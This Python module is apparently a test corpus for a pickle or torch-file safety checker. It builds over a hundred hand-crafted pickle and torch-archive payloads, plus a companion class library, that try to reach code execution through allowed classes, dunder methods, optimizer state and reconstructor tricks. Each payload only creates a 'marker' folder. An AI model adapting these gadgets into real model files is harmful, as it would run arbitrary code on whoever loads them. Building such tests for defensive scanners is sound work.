"""Files that reach code through what is allowed: known classes, arguments, states, keys, and classes of a package.

`GADGETS` has them by name, `LIBRARY` is the package that many of them use. Each makes a folder or file named `marker`
where it is loaded, if it does anything. Not all do: torch refuses some of them.
"""

from __future__ import annotations

import io
import struct
import zipfile


def t(value: str) -> bytes:
    """A string on the stack."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def n(module: str, qualname: str) -> bytes:
    """A global on the stack."""
    return t(module) + t(qualname) + b"\x93"


def i(number: int) -> bytes:
    """A number on the stack."""
    return b"J" + struct.pack("<i", number)


def tup(*parts: bytes) -> bytes:
    """A tuple."""
    return b"(" + b"".join(parts) + b"t"


def lst(*parts: bytes) -> bytes:
    """A list."""
    return b"](" + b"".join(parts) + b"e"


def dct(*pairs: tuple[bytes, bytes]) -> bytes:
    """A dictionary."""
    return b"}(" + b"".join(key + value for key, value in pairs) + b"u"


def sd(**values: bytes) -> bytes:
    """A dictionary with text as keys."""
    return dct(*[(t(key), value) for key, value in values.items()])


def call(function: bytes, *parts: bytes) -> bytes:
    """A call by REDUCE."""
    return function + tup(*parts) + b"R"


def new(cls: bytes, *parts: bytes) -> bytes:
    """An instance by NEWOBJ."""
    return cls + tup(*parts) + b"\x81"


def build(target: bytes, state: bytes) -> bytes:
    """An object that is given a state."""
    return target + state + b"b"


def P(body: bytes, number: int = 4) -> bytes:
    """A whole pickle."""
    return b"\x80" + bytes([number]) + body + b"."


def part(function: bytes, *parts: bytes) -> bytes:
    """A `functools.partial`."""
    return call(n("functools", "partial"), function, *parts)


def NS(**values: bytes) -> bytes:
    """A namespace with these attributes."""
    return build(new(n("types", "SimpleNamespace")), sd(**values))


def inst(cls: str, **values: bytes) -> bytes:
    """An instance of a class of the library."""
    return build(new(n(L, cls)), sd(**values))


def adam(groups: bytes, state: bytes = b"}", mod: str = "torch.optim.adam", cls: str = "Adam") -> bytes:
    """A whole optimizer."""
    return build(new(n(mod, cls)), sd(param_groups=groups, state=state, defaults=b"}"))


def CM(factory: bytes) -> bytes:
    """A mapping that has the attributes of a module, and calls the factory when one is read."""
    names = dct((t("training"), i(1)), (t("padding_mode"), i(1)), (t("approximate"), i(1)), (t("_forward_hooks"), i(1)))
    maps = lst(call(n("collections", "defaultdict"), factory), names)
    return build(new(n("collections", "ChainMap")), sd(maps=maps))


def Z(data: bytes, *more: tuple[str, bytes], names: tuple[str, ...] = ("a/data.pkl",)) -> bytes:
    """A torch archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for label in names:
            archive.writestr(zipfile.ZipInfo(label), data)
        for label, raw in (*more, ("a/version", b"3\n"), ("a/byteorder", b"little")):
            archive.writestr(zipfile.ZipInfo(label), raw)
    return buffer.getvalue()


L = "attacklib"
F = b"G" + struct.pack(">d", 1.0)
SAVE = part(n("numpy", "savetxt"), t("marker"), lst(F))
TSAVE = part(n("torch", "save"), b"}", t("marker"))
MK = part(n("pathlib", "Path.mkdir"), call(n("pathlib", "PosixPath"), t("marker")))
PL = part(n(L, "plan"), t("marker"))
W = P(call(n("os", "mkdir"), t("marker")))
A: dict[str, bytes] = {}
A["adam setdefault savetxt"] = P(adam(lst(NS(setdefault=SAVE))))
A["sgd setdefault torch.save"] = P(adam(lst(NS(setdefault=TSAVE)), mod="torch.optim.sgd", cls="SGD"))
A["adam setdefault fn of lib"] = P(adam(lst(NS(setdefault=part(n(L, "plan"), t("marker"))))))
for m, c in (
    ("adamax", "Adamax"),
    ("nadam", "NAdam"),
    ("rprop", "Rprop"),
    ("rmsprop", "RMSprop"),
    ("asgd", "ASGD"),
    ("adadelta", "Adadelta"),
    ("adagrad", "Adagrad"),
    ("radam", "RAdam"),
    ("adamw", "AdamW"),
):
    A["opt " + c] = P(adam(lst(NS(setdefault=part(n(L, "plan"), t("marker")))), mod="torch.optim." + m, cls=c))
A["module chainmap defaultdict conv"] = P(
    build(new(n("torch.nn.modules.conv", "Conv2d")), sd(_parameters=CM(SAVE), _buffers=b"}", _modules=b"}"))
)
A["module chainmap mkdir"] = P(
    build(new(n("torch.nn.modules.conv", "Conv2d")), sd(_parameters=CM(MK), _buffers=b"}", _modules=b"}"))
)
A["softmax chainmap"] = P(
    build(new(n("torch.nn.modules.activation", "Softmax")), sd(_parameters=CM(SAVE), _buffers=b"}", _modules=b"}"))
)
A["module extend"] = P(
    build(
        new(n("torch.nn.modules.container", "Sequential")),
        sd(_parameters=b"}", _buffers=b"}", _modules=sd(extend=part(n(L, "plan"), t("marker")))),
    )
    + lst(F)
    + b"0(Ke".replace(b"Ke", b"K\x01e")
)
A["module append in _buffers"] = P(
    build(
        new(n("torch.nn.modules.linear", "Identity")),
        sd(_parameters=sd(append=part(n(L, "plan"), t("marker"))), _buffers=b"}", _modules=b"}"),
    )
    + b"K\x01a"
)
A["attributedict setstate"] = P(
    new(n("lightning.fabric.utilities.data", "AttributeDict"))
    + t("__setstate__")
    + n(L, "plan")
    + b"s"
    + t("marker")
    + b"b"
)
A["attributedict append"] = P(
    new(n("lightning.fabric.utilities.data", "AttributeDict")) + t("append") + n(L, "plan") + b"s" + t("marker") + b"a"
)
TEN = call(
    n("torch._utils", "_rebuild_tensor_v2"),
    call(n("torch.storage", "UntypedStorage")),
    i(0),
    tup(i(0)),
    tup(i(1)),
    b"\x89",
    call(n("collections", "OrderedDict")),
)
A["parameter state plants setstate"] = P(
    call(
        n("torch._utils", "_rebuild_parameter_with_state"),
        call(n("torch", "Tensor")),
        b"\x89",
        call(n("collections", "OrderedDict")),
        sd(__setstate__=n(L, "plan")),
    )
    + t("marker")
    + b"b"
)
A["tensor type state plants"] = P(
    call(
        n("torch._tensor", "_rebuild_from_type_v2"),
        n("torch._utils", "_rebuild_parameter"),
        n("torch.nn.parameter", "Parameter"),
        tup(call(n("torch", "Tensor")), b"\x89", call(n("collections", "OrderedDict"))),
        sd(__setstate__=n(L, "plan")),
    )
    + t("marker")
    + b"b"
)
SGD = build(
    new(n("torch.optim.sgd", "SGD")),
    sd(
        param_groups=lst(sd(lr=F, initial_lr=F, params=b"]")),
        state=b"}",
        defaults=b"}",
        _optimizer_step_pre_hooks=b"}",
        _optimizer_step_post_hooks=b"}",
    ),
)
A["LambdaLR calls list"] = P(
    call(n("torch.optim.lr_scheduler", "LambdaLR"), SGD, lst(part(n(L, "plan2"), t("marker"))))
)
A["LambdaLR calls ns"] = P(call(n("torch.optim.lr_scheduler", "LambdaLR"), SGD, tup(part(n(L, "plan2"), t("marker")))))
for how, c in (("hash", "Hashed"),):
    A["key " + how] = P(b"}" + inst(c, path=t("marker")) + b"Ns")
    A["key in tuple"] = P(b"}" + inst(c, path=t("marker")) + b"\x85Ns")
    A["set member"] = P(b"\x8f(" + inst(c, path=t("marker")) + b"\x90")
    A["frozenset"] = P(b"(" + inst(c, path=t("marker")) + b"\x91")
    A["set call"] = P(call(n("builtins", "set"), lst(inst(c, path=t("marker")))))
    A["counter call"] = P(call(n("collections", "Counter"), lst(inst(c, path=t("marker")))))
for fn, c in (
    ("str", "Str"),
    ("int", "Int"),
    ("float", "Float"),
    ("bool", "Bool"),
    ("list", "Iter"),
    ("tuple", "Iter"),
    ("set", "Iter"),
    ("dict", "Keys"),
    ("bytes", "Bytes"),
    ("complex", "Float"),
    ("range", "Index"),
    ("enumerate", "Iter"),
    ("zip", "Iter"),
    ("reversed", "Rev"),
):
    A[f"{fn}() of instance"] = P(call(n("builtins", fn), inst(c, path=t("marker"))))
A["Path of instance"] = P(call(n("pathlib", "PosixPath"), inst("Fspath", path=t("marker"))))
A["Decimal nested"] = P(call(n("collections", "deque"), inst("Iter", path=t("marker"))))
A["str of namespace of instance"] = P(call(n("builtins", "str"), NS(a=inst("Repr", path=t("marker")))))
A["torch.Size of iter"] = P(call(n("torch", "Size"), inst("Iter", path=t("marker"))))
A["getattr property"] = P(call(n("builtins", "getattr"), inst("Prop", path=t("marker")), t("prop")))
A["or of instances"] = P(call(n("operator", "or_"), inst("Or", path=t("marker")), i(1)))
A["reduce or metaclass"] = P(
    call(n("functools", "reduce"), n("operator", "or_"), tup(n(L, "MetaOr"), n("builtins", "int")))
)
A["star import"] = P(build(new(n("attackstar", "Runs")), sd(path=t("marker"))))
A["pyc only"] = P(build(new(n("attackpyc", "Runs")), sd(path=t("marker"))))
A["decorated class"] = P(inst("Decorated", path=t("marker")))
A["assigned later"] = P(inst("Assigned", path=t("marker")))
A["setattr later"] = P(inst("SetLater", path=t("marker")))
A["ann assign"] = P(inst("Ann", path=t("marker")))
A["body import"] = P(inst("BodyImport", path=t("marker")))
A["loop in body"] = P(inst("LoopBody", path=t("marker")))
A["metaclass getattribute"] = P(inst("MetaGet", path=t("marker")))
A["decorated method"] = P(inst("DecoMethod", path=t("marker")))
A["moves calls items"] = P(build(new(n(L, "Mover")), NS(items=part(n(L, "plan"), t("marker")), get=n(L, "plan"))))
A["moves adds"] = P(build(new(n(L, "Adder")), sd(a=inst("Or", path=t("marker")), b=i(1))))
A["named tuple assignment"] = P(inst("TupleAssigned", path=t("marker")))
A["runs at import main"] = P(n("attackpkg.__main__", "Thing"))
A["ufunc reconstruct save"] = P(
    adam(
        lst(
            NS(
                setdefault=part(
                    call(n("numpy.core", "_ufunc_reconstruct"), t("numpy"), t("savetxt")), t("marker"), lst(F)
                )
            )
        )
    )
)
A["storage pid attr"] = P(
    b"(X\x07\x00\x00\x00storage" + inst("Prop2", path=t("marker")) + t("0") + t("cpu") + i(1) + b"tQ"
)
# persistent ids in a zip
A["z pid type property instance"] = Z(
    P(b"(" + t("storage") + inst("Prop2", path=t("marker")) + t("0") + t("cpu") + i(1) + b"tQ"), ("a/data/0", b"1234")
)
A["z pid numel instance"] = Z(
    P(b"(" + t("storage") + n("torch", "FloatStorage") + t("0") + t("cpu") + inst("Index", path=t("marker")) + b"tQ"),
    ("a/data/0", b"1234"),
)
A["z pid numel mul"] = Z(
    P(b"(" + t("storage") + n("torch", "FloatStorage") + t("0") + t("cpu") + inst("Mul", path=t("marker")) + b"tQ"),
    ("a/data/0", b"1234"),
)
A["z pid key hash"] = Z(
    P(b"(" + t("storage") + n("torch", "FloatStorage") + inst("Hashed", path=t("marker")) + t("cpu") + i(1) + b"tQ"),
    ("a/data/0", b"1234"),
)
A["z pid location"] = Z(
    P(b"(" + t("storage") + n("torch", "FloatStorage") + t("0") + inst("Starts", path=t("marker")) + i(1) + b"tQ"),
    ("a/data/0", b"1234"),
)
A["z constants trick"] = Z(W, ("a/constants.pkl", P(b"N")))
A["z data twice folder"] = Z(W, names=("a/data.pkl", "a/x/data.pkl"))
A["z backslash"] = Z(W, names=("a\\data.pkl",))
A["z dot format"] = Z(
    P(b"}"), ("a/.format_version", b"1"), ("a/.storage_alignment", b"64"), ("a/.data/serialization_id", b"1")
)
# opcodes
A["ext code"] = P(b"\x82\x01)R")
A["newobj_ex kw"] = P(n(L, "Kw") + b")" + sd(path=t("marker")) + b"\x92")
A["inst class init"] = P(b"(" + t("marker") + b"iattacklib\nInit\n", 2)
A["obj class init"] = P(b"(cattacklib\nInit\n" + t("marker") + b"o", 2)
A["obj noarg init"] = P(b"(cattacklib\nInit0\no", 2)
A["inst noarg"] = P(b"(iattacklib\nInit0\n", 2)
A["reduce noarg init"] = P(n(L, "Init0") + b")R")
A["enum missing"] = P(call(n(L, "E"), t("marker")))
A["enum new"] = P(n(L, "E2") + tup(t("marker")) + b"\x81")
A["setitems on obj"] = P(new(n(L, "SI")) + t("marker") + b"Ns")
A["appends on obj"] = P(new(n(L, "AP")) + t("marker") + b"a")
A["extend on obj"] = P(new(n(L, "EX")) + b"(" + t("marker") + b"e")
A["add on obj"] = P(new(n(L, "AD")) + b"(" + t("marker") + b"\x90")
A["slots property"] = P(new(n(L, "SlotP")) + tup(b"N", sd(p=t("marker"))) + b"b")
A["slots setattr"] = P(new(n(L, "SA")) + tup(b"N", sd(p=t("marker"))) + b"b")
A["getattribute"] = P(inst("GA", path=t("marker")))
A["del"] = P(inst("De", path=t("marker")))
A["del in base"] = P(inst("DeChild", path=t("marker")))
A["weak finalize"] = P(inst("Fin", path=t("marker")))
A["nested class"] = P(build(new(n(L, "Out.In")), sd(path=t("marker"))))
A["reconstructor base"] = P(
    b"ccopy_reg\n_reconstructor\n(cattacklib\nDictSub\nc__builtin__\ndict\n" + inst("Keys", path=t("marker")) + b"tR", 2
)
A["reconstructor list"] = P(
    b"ccopy_reg\n_reconstructor\n(cattacklib\nListSub\nc__builtin__\nlist\n"
    b"cattacklib\nIter\n)\x81" + sd(path=t("marker")) + b"b" + b"tR",
    2,
)
A["reconstructor known"] = P(
    b"ccopy_reg\n_reconstructor\n(ccollections\nOrderedDict\nc__builtin__\ndict\n"
    b"cattacklib\nKeys\n)\x81" + sd(path=t("marker")) + b"b" + b"tR",
    2,
)
A["newobj known str"] = P(n("builtins", "str") + tup(inst("Str", path=t("marker"))) + b"\x81")
A["newobj known float"] = P(n("builtins", "float") + tup(inst("Float", path=t("marker"))) + b"\x81")
A["newobj Fraction"] = P(n("fractions", "Fraction") + tup(inst("Num", path=t("marker")), i(3)) + b"\x81")
A["datetime index"] = P(call(n("datetime", "date"), inst("Index", path=t("marker")), i(1), i(1)))
A["namespace eq via set"] = P(b"\x8f(" + NS(a=inst("Hashed", path=t("marker"))) + b"\x90")
A["MetadataIndex key"] = P(
    b"}"
    + build(
        new(n("torch.distributed.checkpoint.metadata", "MetadataIndex")),
        sd(fqn=inst("Hashed", path=t("marker")), offset=b"N", index=b"N"),
    )
    + b"Ns"
)
A["path key"] = P(b"}" + build(new(n("uuid", "UUID")), sd(int=inst("Hashed", path=t("marker")))) + b"Ns")
A["Random setstate mod"] = P(build(new(n("random", "Random")), tup(i(3), tup(inst("Mod", path=t("marker"))), b"N")))
A["Random v2 mod"] = P(build(new(n("random", "Random")), tup(i(2), lst(inst("Mod", path=t("marker"))), b"N")))
A["uuid setstate"] = P(build(new(n("uuid", "UUID")), inst("Keys", path=t("marker"))))
A["rnn all_weights"] = P(
    build(
        new(n("torch.nn.modules.rnn", "LSTM")),
        sd(
            all_weights=lst(lst(i(1))),
            num_layers=inst("Index", path=t("marker")),
            _parameters=b"}",
            _buffers=b"}",
            _modules=b"}",
        ),
    )
)
A["wrapped hook"] = P(
    build(
        new(n("torch.nn.modules.module", "_WrappedHook")),
        sd(hook=PL, with_module=b"\x88", module=inst("Prop", path=t("marker"))),
    )
)
A["TensorProperties"] = P(
    build(
        new(n("torch.distributed.checkpoint.metadata", "TensorProperties")),
        tup(b"N", b"N", b"\x89", inst("Hashed", path=t("marker")), b"\x89"),
    )
)
A["rebuild_tensor storage attr"] = P(
    call(n("torch._utils", "_rebuild_tensor"), inst("Prop2", path=t("marker")), i(0), tup(i(0)), tup(i(1)))
)
A["rebuild_tensor ns storage"] = P(
    call(
        n("torch._utils", "_rebuild_tensor_v2"),
        NS(_untyped_storage=inst("Prop3", path=t("marker")), dtype=n("torch", "float32")),
        i(0),
        tup(i(0)),
        tup(i(1)),
        b"\x89",
        call(n("collections", "OrderedDict")),
    )
)
A["rebuild wrapper subclass"] = P(
    call(
        n("torch._utils", "_rebuild_wrapper_subclass"),
        n(L, "Sub"),
        n("torch", "float32"),
        tup(i(1)),
        tup(i(1)),
        i(0),
        n("torch", "strided"),
        t("cpu"),
        b"\x89",
    )
)
A["rebuild_from_type unknown"] = P(
    call(
        n("torch._tensor", "_rebuild_from_type_v2"),
        n("torch._utils", "_rebuild_parameter"),
        n(L, "TSub"),
        tup(call(n("torch", "Tensor")), b"\x89", call(n("collections", "OrderedDict"))),
        sd(path=t("marker")),
    )
)
A["np reconstruct subclass"] = P(call(n("numpy.core.multiarray", "_reconstruct"), n(L, "Arr"), tup(i(0)), b"C\x01b"))
A["ma baseclass"] = P(
    call(n("numpy.ma.core", "_mareconstruct"), n("numpy.ma.core", "MaskedArray"), n(L, "Arr"), tup(i(0)), t("f8"))
)
A["np dtype attr"] = P(call(n("numpy", "dtype"), n(L, "HasDtype")))
A["np dtype inst"] = P(call(n("numpy", "dtype"), inst("Prop2", path=t("marker"))))
A["np scalar"] = P(call(n("numpy", "float64"), inst("Float", path=t("marker"))))
A["np str_"] = P(call(n("numpy", "str_"), inst("Str", path=t("marker"))))
A["frombuffer shape"] = P(
    call(
        n("numpy.core.numeric", "_frombuffer"),
        b"C\x08" + b"\0" * 8,
        call(n("numpy", "dtype"), t("f8")),
        inst("Iter", path=t("marker")),
        t("C"),
    )
)
A["generator ctor named"] = P(
    call(n("numpy.random._pickle", "__generator_ctor"), t("MT19937"), n("numpy.random._pickle", "np.savetxt"))
)
A["exception with key"] = P(call(n("builtins", "ValueError"), b"}" + inst("Hashed", path=t("marker")) + b"Ns"))
A["UnicodeDecodeError index"] = P(
    call(n("builtins", "UnicodeDecodeError"), t("utf8"), b"C\x01a", inst("Index", path=t("marker")), i(1), t("x"))
)
A["OSError"] = P(call(n("builtins", "OSError"), inst("Hashed", path=t("marker")), t("x")))
A["deque maxlen"] = P(call(n("collections", "deque"), b"]", inst("Index", path=t("marker"))))
A["slice hash"] = P(b"}" + call(n("builtins", "slice"), inst("Hashed", path=t("marker")), i(1), i(1)) + b"Ns")
A["chain into list"] = P(call(n("builtins", "list"), call(n("itertools", "chain"), inst("Iter", path=t("marker")))))
A["islice"] = P(call(n("itertools", "islice"), inst("Iter", path=t("marker")), i(1)))
A["reduce or_ inst"] = P(call(n("functools", "reduce"), n("operator", "or_"), tup(inst("Or", path=t("marker")), i(1))))
A["getitem typing"] = P(
    call(n("operator", "getitem"), n("typing", "Union"), tup(inst("Hashed", path=t("marker")), n("builtins", "int")))
)
A["GenericAlias key"] = P(
    b"}" + call(n("types", "GenericAlias"), n("builtins", "list"), tup(inst("Hashed", path=t("marker")))) + b"Ns"
)
A["partial setstate"] = P(
    build(part(n("builtins", "len")), tup(n("builtins", "len"), inst("Iter", path=t("marker")), b"}", b"}"))
)
A["partial key"] = P(b"}" + PL + b"Ns")
A["OrderedDict of pairs keys"] = P(
    call(n("collections", "OrderedDict"), lst(lst(inst("Hashed", path=t("marker")), i(1))))
)
A["OrderedDict pair iter"] = P(call(n("collections", "OrderedDict"), lst(inst("Iter2", path=t("marker")))))
A["defaultdict pairs"] = P(
    call(n("collections", "defaultdict"), n("builtins", "int"), lst(inst("Iter2", path=t("marker"))))
)
A["dict pair iter"] = P(call(n("builtins", "dict"), lst(inst("Iter2", path=t("marker")))))
A["userdict setitem"] = P(build(new(n("collections", "UserDict")), sd(data=new(n(L, "SI")))) + t("marker") + b"Ns")
A["chainmap setitem"] = P(build(new(n("collections", "ChainMap")), sd(maps=lst(new(n(L, "SI"))))) + t("marker") + b"Ns")
A["userlist append"] = P(build(new(n("collections", "UserList")), sd(data=new(n(L, "AP")))) + t("marker") + b"a")
A["optimizer param hash"] = P(adam(lst(sd(params=lst(inst("Hashed", path=t("marker")))))))
A["optimizer step float"] = P(
    adam(lst(sd(params=lst(i(1)))), state=dct((i(1), sd(step=inst("Float", path=t("marker"))))))
)
A["sub optimizer"] = P(build(new(n(L, "MyAdam")), sd(param_groups=lst(NS(setdefault=PL)), state=b"}", defaults=b"}")))
A["sub module rnn"] = P(
    build(new(n(L, "MyConv")), sd(_parameters=inst("Cont", path=t("marker")), _buffers=b"}", _modules=b"}"))
)
A["module in _modules obj"] = P(
    build(
        new(n("torch.nn.modules.conv", "Conv2d")),
        sd(_parameters=b"}", _buffers=inst("Cont", path=t("marker")), _modules=b"}"),
    )
)
A["module state not dict"] = P(build(new(n("torch.nn.modules.linear", "Linear")), inst("Keys", path=t("marker"))))
A["gradscaler keys"] = P(build(new(n("torch.amp.grad_scaler", "GradScaler")), inst("Keys", path=t("marker"))))
A["optimizer state keys obj"] = P(build(new(n("torch.optim.sgd", "SGD")), inst("Keys", path=t("marker"))))
A["namespace state keys"] = P(build(new(n("argparse", "Namespace")), inst("ItemsD", path=t("marker"))))
A["second pickle broken"] = P(b"}") + b"\x80\x04" + call(n("os", "mkdir"), t("marker")) + b"\xff"
A["tensorscript"] = Z(W, ("a/constants.pkl", b"\x80\x02)."), ("a/code/__torch__.py", b"ops.mylib.run"))
A["dotted via proto 4"] = P(n(L, "os.mkdir") + tup(t("marker")) + b"R")
A["module attr class"] = P(n(L, "functools.partial") + tup(n(L, "plan"), t("marker")) + b"R)R")
A["class alias of system"] = P(call(n(L, "Alias"), t("marker")))
A["class alias new"] = P(n(L, "Alias2") + tup(lst(t("mkdir"), t("marker"))) + b"R")
A["dataclass post init"] = P(call(n(L, "DC"), t("marker")))
A["dataclass factory"] = P(call(n(L, "DF")))
A["namedtuple sub new"] = P(n(L, "NT") + tup(t("marker")) + b"\x81")
A["generic base"] = P(inst("Gen", path=t("marker")))
A["mixin later in mro"] = P(inst("Mix", path=t("marker")))
A["conditional def"] = P(inst("Cond", path=t("marker")))
A["match def"] = P(inst("Mat", path=t("marker")))
A["walrus/lambda attr"] = P(inst("Lam", path=t("marker")))
A["global func plain name"] = P(inst("PlainName", path=t("marker")))
A["method named like plain"] = P(inst("PlainMeth", path=t("marker"), target=inst("Upd", path=t("marker"))))
A["shadowed builtin"] = P(inst("Shadow", path=t("marker")))
A["shadowed Error"] = P(inst("ShadowE", path=t("marker")))
# `getattr(nullcontext(), "__exit__")`, what a hook of nantrap becomes in a file, is trusted: nothing next to it may be
_KEPT = call(n("contextlib", "nullcontext"), n("posix", "mkdir"))
_PLANTED = build(call(n("contextlib", "nullcontext")), sd(__exit__=n("posix", "mkdir")))
_EXIT = call(n("builtins", "getattr"), call(n("contextlib", "nullcontext")), t("__exit__"))
for _label, _raw in {
    "what nullcontext keeps, entered and called": call(
        call(call(n("builtins", "getattr"), _KEPT, t("__enter__"))), t("marker")
    ),
    "nullcontext with a planted __exit__, called": call(
        call(n("builtins", "getattr"), _PLANTED, t("__exit__")), t("marker")
    ),
    "contextmanager of mkdir": call(call(n("contextlib", "contextmanager"), n("posix", "mkdir")), t("marker")),
    "os of contextlib": call(n("contextlib", "os.mkdir"), t("marker")),
    "__exit__ beside a call": lst(_EXIT, call(n("posix", "mkdir"), t("marker"))),
    "__globals__ of __exit__": call(n("builtins", "getattr"), _EXIT, t("__globals__")),
    "__exit__ with a default": call(
        n("builtins", "getattr"), call(n("contextlib", "nullcontext")), t("__exit__"), n("posix", "mkdir")
    ),
}.items():
    A[_label] = P(_raw)
GADGETS = A

LIBRARY = """
import os, functools
def plan(path, *a, **k):
    os.makedirs(path if isinstance(path, str) else "marker", exist_ok=True)
    return 1
def plan2(path, *a):
    plan(path); return 1.0
class B:
    def __init__(self): pass
def _m(*names):
    return {}
class Hashed:
    def __hash__(self): plan(self.path); return 1
class Str:
    def __str__(self): plan(self.path); return "x"
class Int:
    def __int__(self): plan(self.path); return 1
class Float:
    def __float__(self): plan(self.path); return 1.0
class Bool:
    def __bool__(self): plan(self.path); return True
class Iter:
    def __iter__(self): plan(self.path); return iter([1])
class Rev:
    def __reversed__(self): plan(self.path); return iter([1])
class Keys:
    def keys(self): plan(self.path); return []
class Bytes:
    def __bytes__(self): plan(self.path); return b""
class Index:
    def __index__(self): plan(self.path); return 1
class Fspath:
    def __fspath__(self): plan(self.path); return "x"
class Repr:
    def __repr__(self): plan(self.path); return "x"
class Prop:
    @property
    def prop(self): plan(self.path); return 1
class Prop2:
    @property
    def dtype(self): plan(self.path); return 1
class Or:
    def __or__(self, o): plan(self.path); return 1
    __ror__ = __or__
    def __add__(self, o): plan(self.path); return 1
class _M(type):
    def __or__(cls, o): plan("marker"); return cls
class MetaOr(metaclass=_M): pass
def adds(cls):
    cls.__setstate__ = lambda self, s: plan(s["path"])
    return cls
@adds
class Decorated: pass
class Assigned: pass
Assigned.__setstate__ = lambda self, s: plan(s["path"])
class SetLater: pass
setattr(SetLater, "__setstate__", lambda self, s: plan(s["path"]))
class Ann:
    __setstate__: object = lambda self, s: plan(s["path"])
class BodyImport:
    from attackpkg import setter as __setstate__
class LoopBody:
    for _ in range(1):
        def __setstate__(self, s): plan(s["path"])
class _G(type):
    def __getattribute__(cls, name):
        plan("marker"); return type.__getattribute__(cls, name)
class MetaGet(metaclass=_G): pass
def replaced(f): return lambda self, s: plan(s["path"])
class DecoMethod:
    @replaced
    def __setstate__(self, s): self.__dict__.update(s)
class Mover:
    def __setstate__(self, state):
        for key, value in state.items(): setattr(self, key, value)
class Adder:
    def __setstate__(self, state): self.c = state["a"] + state["b"]
class TupleAssigned:
    __setstate__, x = (lambda self, s: plan(s["path"])), 1

import enum, collections, weakref, typing, subprocess, dataclasses
import numpy as np, torch
class Mul:
    def __mul__(self,o): plan(self.path); return 4
    __rmul__=__mul__
class Starts:
    def startswith(self,x): plan(self.path); return True
class Kw:
    def __new__(cls, path): plan(path); return object.__new__(cls)
class Init:
    def __init__(self, path): plan(path)
class Init0:
    def __init__(self): plan("marker")
class E(enum.Enum):
    A=1
    @classmethod
    def _missing_(cls, v): plan(v); return cls.A
class E2:
    def __new__(cls, v): plan(v); return object.__new__(cls)
class SI:
    def __setitem__(self,k,v): plan(k)
class AP:
    def append(self,v): plan(v)
class EX:
    def extend(self,v): plan(v[0])
class AD:
    def add(self,v): plan(v)
class SlotP:
    __slots__=()
    @property
    def p(self): return 1
    @p.setter
    def p(self,v): plan(v)
class SA:
    def __setattr__(self,k,v): plan(v)
class GA:
    def __getattribute__(self,k):
        plan("marker"); return object.__getattribute__(self,k)
class De:
    def __del__(self): plan(self.path)
class DeChild(De): pass
class Fin:
    def __new__(cls):
        self=object.__new__(cls); weakref.finalize(self, plan, "marker"); return self
class Out:
    class In:
        def __setstate__(self,s): plan(s["path"])
class DictSub(dict): pass
class ListSub(list): pass
class Num:
    numerator=1
    @property
    def denominator(self): plan(self.path); return 1
class Mod:
    def __mod__(self,o): plan(self.path); return 1
class Prop3:
    @property
    def device(self): plan(self.path); return "cpu"
class Sub(torch.Tensor):
    def __init_subclass__(cls): pass
    def __new__(cls,*a): plan("marker")
    @classmethod
    def __torch_function__(cls,*a,**k): plan("marker"); return None
class TSub(torch.nn.Parameter):
    def __setstate__(self,s): plan(s["path"])
class Arr(np.ndarray):
    def __array_finalize__(self,o): plan("marker")
class HasDtype:
    @classmethod
    def x(cls): pass
    class _D:
        def __get__(self,o,c): plan("marker"); return np.dtype("f8")
    dtype=_D()
class Iter2:
    def __iter__(self): plan(self.path); return iter((1,2))
class MyAdam(torch.optim.Adam): pass
class MyConv(torch.nn.Conv2d): pass
class Cont:
    def __contains__(self,k): plan(self.path); return False
class ItemsD:
    def items(self): plan(self.path); return []
class Alias(subprocess.Popen): pass
Alias2 = subprocess.Popen
@dataclasses.dataclass
class DC:
    p: str
    def __post_init__(self): plan(self.p)
@dataclasses.dataclass
class DF:
    p: int = dataclasses.field(default_factory=lambda: plan("marker"))
class NT(collections.namedtuple("NT","a")):
    def __new__(cls,a): plan(a); return super().__new__(cls,a)
T=typing.TypeVar("T")
class Gen(typing.Generic[T]):
    def __setstate__(self,s): plan(s["path"])
class M1: pass
class M2:
    def __setstate__(self,s): plan(s["path"])
class Mix(M1, M2): pass
class Cond:
    if True:
        def __setstate__(self,s): plan(s["path"])
class Mat:
    match 1:
        case _:
            def __setstate__(self,s): plan(s["path"])
class Lam:
    def __setstate__(self,s):
        f = plan
        (lambda: f(s["path"]))()
def update(x): plan(x)
class PlainName:
    def __setstate__(self,s): update(s["path"])
class Upd:
    def update(self,*a): plan("marker")
class PlainMeth:
    def __setstate__(self,s): s["target"].update(1)
def len(x): plan("marker"); return 1
class Shadow:
    def __setstate__(self,s): len(s)
def MyError(x): plan("marker")
class ShadowE:
    def __setstate__(self,s): MyError(s)
"""
